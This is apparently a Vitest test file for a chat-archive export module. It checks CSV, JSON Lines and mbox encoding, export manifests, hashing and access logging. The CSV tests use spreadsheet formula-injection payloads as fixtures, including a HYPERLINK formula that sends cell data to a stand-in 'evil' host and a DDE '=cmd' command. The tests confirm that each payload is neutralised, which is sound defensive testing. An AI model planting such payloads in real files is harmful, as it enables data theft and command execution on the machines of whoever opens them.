import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RecordingAccessLog } from '../../test/support/access-log.ts';
import { archiveEntry, openArchiveDatabase } from '../../test/support/archive.ts';
import type { TestDatabase } from '../../test/support/database.ts';
import { principalFor } from '../../test/support/fake-auth.ts';
import { silentLogger } from '../log.ts';
import type { AccessLog } from './access-log.types.ts';
import {
  addrSpec,
  asctime,
  CSV_HEAD,
  csvCell,
  csvRecord,
  encodedWords,
  fold,
  headerField,
  EXPORT_BATCH_BYTES,
  EXPORT_CHUNK_BYTES,
  EXPORT_FIELDS,
  exportBatchRows,
  getExport,
  jsonlLine,
  listExports,
  mboxMessage,
  mboxrdQuote,
  rfc5322Date,
  startExport,
  walkArchive,
  type ExportFilters,
  type ExportFormat,
} from './archive-export.ts';
import type { ArchiveEntry } from './archive-record.ts';
import type { ArchiveRecord, ArchivedMessage } from './archive-search.ts';
import { SearchIndexer } from './search-indexer.ts';

const message = (m: Partial<ArchivedMessage> = {}): ArchivedMessage => ({
  id: 'm-1',
  ts: new Date('2024-03-01T00:00:03.250Z'),
  from: 'alice@example.org/laptop',
  to: 'bob@example.org',
  type: 'chat',
  body: 'Hello',
  verdict: 'allow',
  matches: [],
  direction: 'internal',
  policyVersion: 2,
  thread: null,
  ...m,
});
const execFileAsync = promisify(execFile);

const record = (m: Partial<ArchivedMessage> = {}): ArchiveRecord => ({
  message: message(m),
  key: { ts: '2024-03-01T00:00:03.250000Z', id: '1' },
  chain: { chain: 'node-a', chainSeq: 7, hash: 'ab'.repeat(32) },
});

// ---------------------------------------------------------------------------------------------
// Test-side readers of the formats: what an eDiscovery tool would do with the file.

/** RFC 4180 parser: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let cell = '';
    i++;
    for (;;) {
      const q = text.indexOf('"', i);
      if (q < 0) throw new Error('unterminated quote');
      cell += text.slice(i, q);
      if (text[q + 1] === '"') {
        cell += '"';
        i = q + 2;
        continue;
      }
      i = q + 1;
      break;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`bad separator at ${i}: ${JSON.stringify(text.slice(i, i + 5))}`);
  }
  return rows;
}

interface MailMessage {
  readonly fromLine: string;
  readonly headers: Map<string, string>;
  readonly body: string;
}

/** RFC 2047 B encoded-words → text: each run of adjacent words decodes as one (RFC 2047 §6.2). */
function decodeWords(value: string): string {
  return value.replace(/=\?UTF-8\?B\?[A-Za-z0-9+/=]*\?=(\s+=\?UTF-8\?B\?[A-Za-z0-9+/=]*\?=)*/g, (run) =>
    Buffer.concat([...run.matchAll(/=\?UTF-8\?B\?([A-Za-z0-9+/=]*)\?=/g)].map((m) => Buffer.from(m[1] ?? '', 'base64'))).toString('utf8'),
  );
}

/** Splits an mboxrd file into messages, unfolds and decodes headers, decodes the base64 body. */
function parseMbox(text: string): MailMessage[] {
  const out: MailMessage[] = [];
  for (const chunk of text.split(/^(?=From )/m)) {
    if (chunk === '') continue;
    expect(chunk.endsWith('\n\n')).toBe(true);
    const nl = chunk.indexOf('\n');
    const fromLine = chunk.slice(0, nl);
    // mboxrd: one '>' less on every >From line.
    const msg = chunk.slice(nl + 1, -1).replace(/^>(>*From )/gm, '$1');
    const split = msg.indexOf('\n\n');
    const headers = new Map<string, string>();
    for (const line of msg.slice(0, split).replace(/\n /g, ' ').split('\n')) {
      const colon = line.indexOf(':');
      headers.set(line.slice(0, colon).toLowerCase(), decodeWords(line.slice(colon + 1).trim()));
    }
    const b64 = msg.slice(split + 2).replace(/\n/g, '');
    out.push({ fromLine, headers, body: Buffer.from(b64, 'base64').toString('utf8') });
  }
  return out;
}

describe('CSV', () => {
  it.each([
    ['plain', '"plain"'],
    ['', '""'],
    [null, '""'],
    [42, '"42"'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ['two\r\nlines\nhere', '"two\r\nlines\nhere"'],
    ['你好，世界', '"你好，世界"'],
    // Formula injection: neutralised with a leading apostrophe.
    ['=1+1', '"\'=1+1"'],
    ['=HYPERLINK("http://evil/?"&A1,"x")', '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"'],
    ['+33 1 23', '"\'+33 1 23"'],
    ['-2+3', '"\'-2+3"'],
    ['@SUM(A1:A9)', '"\'@SUM(A1:A9)"'],
    ['\t=cmd', '"\'\t=cmd"'],
    ['\r=cmd', '"\'\r=cmd"'],
    ['a=b', '"a=b"'],
    [[{ ruleId: 'r1' }], '"[{""ruleId"":""r1""}]"'],
  ])('quotes %j as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('ends every record with CRLF and starts the file with a BOM and the header row', () => {
    expect(csvRecord(['a', 'b'])).toBe('"a","b"\r\n');
    expect(CSV_HEAD.startsWith('\uFEFF"id","ts","from","to"')).toBe(true);
    expect(parseCsv(CSV_HEAD.slice(1))).toEqual([[...EXPORT_FIELDS]]);
  });
});

describe('JSON Lines', () => {
  it('writes one line per message with every field, newlines escaped', () => {
    const line = jsonlLine(record({ body: '第一行\n第二行', matches: [{ ruleId: 'r', ruleName: 'n', action: 'flag', severity: 'low', start: 0, end: 1, match: '第' }] }));
    expect(line.endsWith('\n')).toBe(true);
    expect(line.indexOf('\n')).toBe(line.length - 1);
    expect(JSON.parse(line)).toEqual({
      id: 'm-1', ts: '2024-03-01T00:00:03.250Z', from: 'alice@example.org/laptop', to: 'bob@example.org', type: 'chat',
      direction: 'internal', verdict: 'allow', matches: [{ ruleId: 'r', ruleName: 'n', action: 'flag', severity: 'low', start: 0, end: 1, match: '第' }],
      body: '第一行\n第二行', thread: null, policyVersion: 2, chain: 'node-a', chainSeq: 7, hash: 'ab'.repeat(32),
    });
  });
});

describe('mbox', () => {
  it.each([
    ['2024-03-01T00:00:03Z', 'Fri, 01 Mar 2024 00:00:03 +0000', 'Fri Mar  1 00:00:03 2024'],
    ['2023-12-31T23:59:59.999Z', 'Sun, 31 Dec 2023 23:59:59 +0000', 'Sun Dec 31 23:59:59 2023'],
  ])('dates %s as RFC 5322 and asctime', (iso, mail, c) => {
    expect(rfc5322Date(new Date(iso))).toBe(mail);
    expect(asctime(new Date(iso))).toBe(c);
  });

  it.each([
    ['From here', '>From here'],
    ['>From here', '>>From here'],
    ['>>>From x', '>>>>From x'],
    ['Fromage', 'Fromage'],
    ['From: header', 'From: header'],
    ['a\nFrom b\n>From c', 'a\n>From b\n>>From c'],
    [' From indented', ' From indented'],
  ])('mboxrd-quotes %j', (text, quoted) => {
    expect(mboxrdQuote(text)).toBe(quoted);
  });

  it('encodes header text as RFC 2047 words of at most 75 characters, never splitting a character', () => {
    const text = '关于机密项目的会议😀'.repeat(5);
    const encoded = encodedWords(text);
    const words = encoded.split(' ');
    expect(words.length).toBeGreaterThan(1);
    for (const w of words) {
      expect(w.length).toBeLessThanOrEqual(75);
      const bytes = Buffer.from(/^=\?UTF-8\?B\?(.*)\?=$/.exec(w)?.[1] ?? '', 'base64');
      expect(bytes.toString('utf8')).not.toContain('\uFFFD');
    }
    expect(decodeWords(encoded)).toBe(text);
  });

  it.each([
    ['Subject', 'short', 'Subject: short'],
    ['Subject', 'word '.repeat(20).trim(), `Subject: ${'word '.repeat(14).trim()}\n ${'word '.repeat(6).trim()}`],
    ['Subject', '你好', 'Subject: =?UTF-8?B?5L2g5aW9?='],
    ['Subject', 'looks =?like?= a word', 'Subject: =?UTF-8?B?bG9va3MgPT9saWtlPz0gYSB3b3Jk?='],
  ])('writes header %s %j folded or encoded', (name, value, line) => {
    expect(headerField(name, value)).toBe(line);
  });

  it('folds at spaces only, keeping lines within 78 characters where it can', () => {
    const folded = fold(`X-Long: ${'abcdefghij '.repeat(12).trim()}`);
    expect(folded.split('\n').every((l) => l.length <= 78)).toBe(true);
    expect(folded.replace(/\n /g, ' ')).toBe(`X-Long: ${'abcdefghij '.repeat(12).trim()}`);
  });

  it.each([
    ['alice@example.org', 'alice@example.org'],
    ['张三@localhost', `b64.${Buffer.from('张三').toString('base64url')}@localhost`],
    ['münchen@bücher.example/手机', `b64.${Buffer.from('münchen').toString('base64url')}@xn--bcher-kva.example`],
    [`${'x'.repeat(64)}@example.org`, `${'x'.repeat(64)}@example.org`],
    // Too long for RFC 5321's 64 octets, even in base64: a digest.
    [`${'x'.repeat(65)}@example.org`, `sha256.${createHash('sha256').update('x'.repeat(65)).digest('hex').slice(0, 40)}@example.org`],
    ['example.org', 'postmaster@example.org'],
  ])('addresses %s as the ASCII addr-spec %s', (jid, addr) => {
    expect(addrSpec(jid)).toBe(addr);
    expect(/^[\x21-\x7e]+$/.test(addrSpec(jid))).toBe(true);
  });

  it('writes mbox messages that Python\'s email and mailbox modules read without a defect: non-ASCII JIDs, a 1000-character resource, quotes', async () => {
    const cases = [
      { from: '张三@localhost/手机', to: '李四@localhost', body: '明天的会议取消了\n改到周五' },
      { from: `alice@example.org/${'r'.repeat(1000)}`, to: 'bob@example.org', body: 'long resource' },
      { from: `${'长'.repeat(300)}@localhost`, to: 'münchen@bücher.example', body: 'long localpart' },
      { from: 'carol@example.org/res "q" \\ x', to: 'example.org', body: 'From the server\n>From quoted' },
    ];
    const text = cases.map((c, i) => mboxMessage(record({ id: `py-${i}`, from: c.from, to: c.to, body: c.body }), 'bücher.example')).join('');
    expect(/^[\x00-\x7f]*$/.test(text)).toBe(true);
    const dir = await mkdtemp(path.join(os.tmpdir(), 'warden-mbox-'));
    try {
      const file = path.join(dir, 'export.mbox');
      await writeFile(file, text);
      const script = [
        'import email, email.policy, json, mailbox, sys',
        'box = mailbox.mbox(sys.argv[1], create=False)',
        'out = []',
        'for key in box.keys():',
        '    raw = box.get_bytes(key)',
        '    msg = email.message_from_bytes(raw, policy=email.policy.default)',
        '    defects = [type(d).__name__ for d in msg.defects]',
        '    for name in ("From", "To", "Subject", "X-Warden-From", "X-Warden-To", "Message-ID"):',
        '        defects += [name + ":" + type(d).__name__ for d in msg[name].defects]',
        '    addrs = {n: [[a.display_name, a.addr_spec] for a in msg[n].addresses] for n in ("From", "To")}',
        '    out.append({"unixfrom": box[key].get_from(), "defects": defects, "addrs": addrs,',
        '                "xfrom": str(msg["X-Warden-From"]), "xto": str(msg["X-Warden-To"]), "subject": str(msg["Subject"]),',
        '                "body": msg.get_content().replace("\\r\\n", "\\n"), "longest": max(len(l) for l in raw.split(b"\\n"))})',
        'print(json.dumps(out))',
      ].join('\n');
      const { stdout } = await execFileAsync('/usr/bin/python3', ['-c', script, file]);
      const parsed = JSON.parse(stdout) as { unixfrom: string; defects: string[]; addrs: Record<'From' | 'To', [string, string][]>; xfrom: string; xto: string; subject: string; body: string; longest: number }[];
      expect(parsed).toHaveLength(cases.length);
      parsed.forEach((m, i) => {
        const c = cases[i]!;
        expect(m.defects).toEqual([]);
        expect(m.longest).toBeLessThanOrEqual(78);
        // The From_ line names the sender (RFC 4155), by the same address as the From header.
        expect(m.unixfrom.startsWith(`${addrSpec(c.from)} `)).toBe(true);
        for (const [header, jid] of [['From', c.from], ['To', c.to]] as const) {
          const [[name, addr] = ['', '']] = m.addrs[header];
          expect(addr).toBe(addrSpec(jid));
          // The JID as display name, or as much of it as one encoded-word holds, ending with "…".
          if (jid === addr) expect(name).toBe('');
          else if (name !== jid) expect(name.endsWith('…') && jid.startsWith(name.slice(0, -1)) && name.length > 10).toBe(true);
        }
        expect([m.xfrom, m.xto]).toEqual([c.from, c.to]);
        expect(m.body).toBe(c.body);
      });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('writes an RFC 5322 message whose Chinese body and headers decode exactly', () => {
    const body = '明天的炸弹演习取消了\nFrom now on: 改到周五';
    const text = mboxMessage(
      record({
        id: 'id with spaces',
        from: 'alice@example.org/手机',
        body,
        verdict: 'hold',
        thread: 't1',
        matches: [{ ruleId: 'r1', ruleName: 'weapons', action: 'hold', severity: 'critical', start: 3, end: 5, match: '炸弹' }],
      }),
      'example.org',
    );
    expect(text.startsWith('From alice@example.org Fri Mar  1 00:00:03 2024\n')).toBe(true);
    // Every line of the message is 7-bit: the UTF-8 lives in base64 and encoded-words.
    expect(/^[\x00-\x7f]*$/.test(text)).toBe(true);
    for (const line of text.split('\n')) expect(line.length).toBeLessThanOrEqual(78);
    const [m] = parseMbox(text);
    expect(m?.headers.get('from')).toBe('alice@example.org/手机 <alice@example.org>');
    expect(m?.headers.get('to')).toBe('<bob@example.org>');
    expect(m?.headers.get('date')).toBe('Fri, 01 Mar 2024 00:00:03 +0000');
    expect(m?.headers.get('message-id')).toBe(`<b64.${Buffer.from('id with spaces').toString('base64url')}@example.org>`);
    expect(m?.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(m?.headers.get('content-transfer-encoding')).toBe('base64');
    expect(m?.headers.get('x-warden-stanza-id')).toBe('id with spaces');
    expect(m?.headers.get('x-warden-verdict')).toBe('hold');
    expect(m?.headers.get('x-warden-thread')).toBe('t1');
    expect(JSON.parse(m?.headers.get('x-warden-matches') ?? '')).toEqual([expect.objectContaining({ match: '炸弹' })]);
    expect(m?.headers.get('x-warden-chain')).toBe(`node-a 7 ${'ab'.repeat(32)}`);
    // RFC 2045 §6.8: line breaks are CRLF inside the base64 text.
    expect(m?.body).toBe(body.replace(/\n/g, '\r\n'));
  });
});

// ---------------------------------------------------------------------------------------------
// The walk and one export run, on a real database

const BASE = Date.parse('2024-03-01T00:00:00Z');
const at = (s: number) => new Date(BASE + s * 1000);
const A = 'alice@example.org';
const B = 'bob@example.org';
const C = 'carol@example.org';

const entry = (i: number, fromBare: string, toBare: string, body: string | null, extra: Partial<ArchiveEntry> = {}): ArchiveEntry =>
  archiveEntry({ ts: at(i), stanzaId: `m-${i}`, fromBare, toBare, body, ...extra });

async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c as Buffer));
  return Buffer.concat(chunks);
}

describe('export runs', () => {
  let db: TestDatabase;
  const officer = principalFor('officer', 'olivia');
  beforeAll(async () => {
    db = await openArchiveDatabase({
      chain: 'export',
      partitionsFrom: at(0),
      entries: [
        entry(1, A, B, 'Hello Bob, the quarterly report'),
        entry(2, B, A, '你好 Alice，季度报告收到了'),
        entry(3, C, A, '明天的炸弹演习取消了', { verdict: 'hold' }),
        entry(4, A, C, '=cmd|\' /C calc\'!A0'),
        entry(5, B, C, null),
        entry(6, A, B, 'quarterly numbers attached', { verdict: 'flag' }),
        entry(7, A, B, 'From the desk of Alice'),
      ],
    });
    // The trigram path reads archive_search up to the indexer's watermark: index m-1..m-5 only,
    // so a query reads both the copy and the rows past it.
    const indexer = new SearchIndexer(db.sql, silentLogger);
    await indexer.runOnce(0);
    await db.sql`UPDATE archive_search_progress SET ts = ${at(5).toISOString()}::timestamptz, id = (SELECT id FROM archive WHERE stanza_id = 'm-5')`;
    await db.sql`DELETE FROM archive_search WHERE ts > ${at(5).toISOString()}::timestamptz`;
  });
  afterAll(async () => db?.close());

  const walkIds = async (filters: ExportFilters, batch = 2) => {
    const ids: string[] = [];
    for await (const records of walkArchive(db.sql, filters, batch)) {
      expect(records.length).toBeLessThanOrEqual(batch);
      ids.push(...records.map((r) => r.message.id));
    }
    return ids;
  };

  it('walks oldest first in batches with every filter of the search', async () => {
    expect(await walkIds({})).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
    expect(await walkIds({}, 1)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
    expect(await walkIds({ user: A })).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7']);
    expect(await walkIds({ user: A, peer: B })).toEqual(['m-1', 'm-2', 'm-6', 'm-7']);
    expect(await walkIds({ verdict: 'hold' })).toEqual(['m-3']);
    expect(await walkIds({ since: at(2), until: at(5) })).toEqual(['m-2', 'm-3', 'm-4']);
    // Trigram query: from archive_search (m-1) and past its watermark (m-6).
    expect(await walkIds({ q: 'QUARTERLY' }, 1)).toEqual(['m-1', 'm-6']);
    expect(await walkIds({ q: 'quarterly', user: B })).toEqual(['m-1', 'm-6']);
    // Short Chinese query: no trigram, a substring test.
    expect(await walkIds({ q: '炸弹' })).toEqual(['m-3']);
  });

  it('carries each row\'s place in its hash chain', async () => {
    const rows = await db.sql<{ stanza_id: string; chain: string; chain_seq: string; hash: Buffer }[]>`SELECT stanza_id, chain, chain_seq, hash FROM archive WHERE stanza_id = 'm-3'`;
    const batches: ArchiveRecord[][] = [];
    for await (const b of walkArchive(db.sql, { verdict: 'hold' })) batches.push(b);
    expect(batches[0]?.[0]?.chain).toEqual({ chain: rows[0]?.chain, chainSeq: Number(rows[0]?.chain_seq), hash: rows[0]?.hash.toString('hex') });
  });

  const run = (format: ExportFormat, filters: ExportFilters, accessLog: AccessLog, now?: Date) =>
    startExport({ sql: db.sql, accessLog, principal: officer, ip: '192.0.2.7', filters, format, domain: 'example.org', batchSize: 2, ...(now && { now }) });

  it('streams a file whose count, size and SHA-256 are in the manifest and the access log', async () => {
    const log = new RecordingAccessLog();
    const r = await run('jsonl', { user: A }, log, new Date('2030-01-01T00:00:00Z'));
    // Recorded before the first byte.
    expect(log.entries).toEqual([
      expect.objectContaining({ action: 'export', principal: officer, ip: '192.0.2.7', query: { user: A, until: '2030-01-01T00:00:00.000Z', format: 'jsonl' }, detail: { exportId: r.id, phase: 'start' } }),
    ]);
    expect((await getExport(db.sql, r.id))?.status).toBe('running');
    const body = await readAll(r.stream);
    // Produced is not received: the manifest waits for whoever sends the file to say it went out.
    expect((await getExport(db.sql, r.id))?.status).toBe('running');
    expect(log.entries).toHaveLength(1);
    expect(await r.finish({ delivered: true })).toBe('complete');
    expect(await r.done).toBe('complete');
    const sha256 = createHash('sha256').update(body).digest('hex');
    const lines = body.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string });
    expect(lines.map((l) => l.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7']);
    expect(r.result()).toEqual({ count: 6, bytes: body.length, sha256 });
    expect(await getExport(db.sql, r.id)).toEqual({
      id: r.id, account: 'olivia', format: 'jsonl', query: { user: A, until: '2030-01-01T00:00:00.000Z' }, status: 'complete',
      count: 6, sha256, bytes: body.length, failure: null, createdAt: expect.any(Date), finishedAt: expect.any(Date),
    });
    expect(log.entries[1]).toEqual(expect.objectContaining({
      action: 'export', messageIds: ['m-1', 'm-2', 'm-3', 'm-4', 'm-6', 'm-7'], messageCount: 6,
      detail: { exportId: r.id, phase: 'complete', count: 6, sha256, bytes: body.length },
    }));
  });

  it('stops at the moment it starts when no until is given', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog(), at(4));
    const body = (await readAll(r.stream)).toString('utf8');
    expect(body.trimEnd().split('\n').map((l) => (JSON.parse(l) as { id: string }).id)).toEqual(['m-1', 'm-2', 'm-3']);
    expect((await getExport(db.sql, r.id))?.query).toEqual({ until: at(4).toISOString() });
  });

  it('writes an empty but complete file for a window in the future', async () => {
    const r = await run('csv', { since: new Date('2031-01-01T00:00:00Z') }, new RecordingAccessLog(), new Date('2030-01-01T00:00:00Z'));
    const body = await readAll(r.stream);
    expect(body.toString('utf8')).toBe(CSV_HEAD);
    expect(r.result()?.count).toBe(0);
  });

  it('writes CSV a spreadsheet cannot turn into a formula', async () => {
    const r = await run('csv', { user: C }, new RecordingAccessLog());
    const text = (await readAll(r.stream)).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([...EXPORT_FIELDS]);
    expect(rows.map((row) => row[0])).toEqual(['m-3', 'm-4', 'm-5']);
    const body = header!.indexOf('body');
    expect(rows.map((row) => row[body])).toEqual(['明天的炸弹演习取消了', '\'=cmd|\' /C calc\'!A0', '']);
  });

  it('writes an mbox whose messages decode to the archived text', async () => {
    const r = await run('eml', { user: A, peer: B }, new RecordingAccessLog());
    expect(r.formatter.contentType).toBe('application/mbox');
    const messages = parseMbox((await readAll(r.stream)).toString('utf8'));
    expect(messages.map((m) => m.headers.get('x-warden-stanza-id'))).toEqual(['m-1', 'm-2', 'm-6', 'm-7']);
    expect(messages[1]?.body).toBe('你好 Alice，季度报告收到了');
    expect(messages[3]?.body).toBe('From the desk of Alice');
    expect(messages[1]?.fromLine).toBe(`From ${B} ${asctime(at(2))}`);
  });

  it('marks a file produced in full but not delivered failed: the messages wholly sent in the manifest, every message begun in the access log', async () => {
    const log = new RecordingAccessLog();
    const r = await run('jsonl', {}, log, at(8));
    const body = await readAll(r.stream);
    expect(r.result()?.count).toBe(7);
    const lines = body.toString('utf8').split('\n');
    // The connection took the first two lines and half of the third before it closed.
    const two = Buffer.byteLength(`${lines[0]}\n${lines[1]}\n`);
    const halfThird = two + Math.floor(Buffer.byteLength(lines[2]!) / 2);
    expect(await r.finish({ delivered: false, bytes: two, maxBytes: halfThird, failure: 'disconnected' })).toBe('failed');
    // A second call changes nothing.
    expect(await r.finish({ delivered: true })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(
      expect.objectContaining({ status: 'failed', failure: 'disconnected', count: 2, bytes: two, sha256: null, finishedAt: expect.any(Date) }),
    );
    expect(log.entries.map((e) => e.detail?.phase)).toEqual(['start', 'failed']);
    expect(log.entries[1]).toMatchObject({ messageIds: ['m-1', 'm-2', 'm-3'], messageCount: 3, detail: { failure: 'disconnected', count: 2, bytes: two } });
  });

  it('marks an export whose reader went away after the first chunk failed, with what was sent', async () => {
    const log = new RecordingAccessLog();
    const r = await run('csv', {}, log);
    const first = await new Promise<Buffer>((resolve) => r.stream.once('data', resolve));
    r.stream.destroy();
    // The CSV head is its own chunk: no message went out.
    expect(first.toString('utf8')).toBe(CSV_HEAD);
    expect(await r.finish({ delivered: false, bytes: first.length, maxBytes: first.length, failure: 'disconnected' })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(expect.objectContaining({ status: 'failed', count: 0, bytes: first.length }));
    expect(log.entries[1]).toMatchObject({ messageIds: [], messageCount: 0 });
    expect(r.result()).toBeUndefined();
  });

  it('marks an export never read failed', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog());
    r.stream.destroy();
    expect(await r.finish({ delivered: false, bytes: 0, maxBytes: 0, failure: 'disconnected' })).toBe('failed');
    expect(await getExport(db.sql, r.id)).toEqual(expect.objectContaining({ status: 'failed', count: 0, bytes: 0 }));
  });

  it('says complete only for a file produced in full', async () => {
    const r = await run('jsonl', {}, new RecordingAccessLog());
    r.stream.destroy();
    expect(await r.finish({ delivered: true })).toBe('failed');
    expect((await getExport(db.sql, r.id))?.failure).toBe('error');
  });

  it('cuts a message larger than a chunk into chunks of at most EXPORT_CHUNK_BYTES, and batches rows by the largest body', async () => {
    const big = 'x'.repeat(EXPORT_CHUNK_BYTES * 2 + 10);
    await db.sql`UPDATE archive SET body = ${big} WHERE stanza_id = 'm-4'`;
    try {
      const r = await run('jsonl', {}, new RecordingAccessLog(), at(8));
      // As a pipe reads it (flowing mode: one chunk per 'data').
      const chunks: Buffer[] = [];
      await new Promise<void>((resolve, reject) => r.stream.on('data', (c: Buffer) => chunks.push(c)).once('end', resolve).once('error', reject));
      expect(Math.max(...chunks.map((c) => c.length))).toBeLessThanOrEqual(EXPORT_CHUNK_BYTES);
      const lines = Buffer.concat(chunks).toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; body: string });
      expect(lines.map((l) => l.id)).toEqual(['m-1', 'm-2', 'm-3', 'm-4', 'm-5', 'm-6', 'm-7']);
      expect(lines[3]?.body).toBe(big);
    } finally {
      await db.sql`UPDATE archive SET body = '=cmd|'' /C calc''!A0' WHERE stanza_id = 'm-4'`;
    }
    expect(exportBatchRows(262_144)).toBe(Math.floor(EXPORT_BATCH_BYTES / (2 * 262_144 + 16_384)));
    expect(exportBatchRows(1024)).toBe(1000);
    expect(exportBatchRows(16 * 1024 * 1024)).toBe(1);
  });

  it('does not start when the access log cannot record it', async () => {
    const log = new RecordingAccessLog();
    log.fail = true;
    await expect(run('jsonl', {}, log)).rejects.toThrow(/access log unavailable/);
    const { items } = await listExports(db.sql, { limit: 1 });
    expect(items[0]?.status).toBe('failed');
  });

  it('lists manifests newest first with a cursor', async () => {
    const first = await listExports(db.sql, { limit: 2 });
    expect(first.more).toBe(true);
    const ids = first.items.map((m) => Number(m.id));
    expect(ids[0]).toBeGreaterThan(ids[1]!);
    const second = await listExports(db.sql, { limit: 2, beforeId: first.items[1]!.id });
    expect(Number(second.items[0]?.id)).toBe(ids[1]! - 1);
    expect(await getExport(db.sql, '999999')).toBeUndefined();
    expect(await getExport(db.sql, 'x')).toBeUndefined();
  });
});
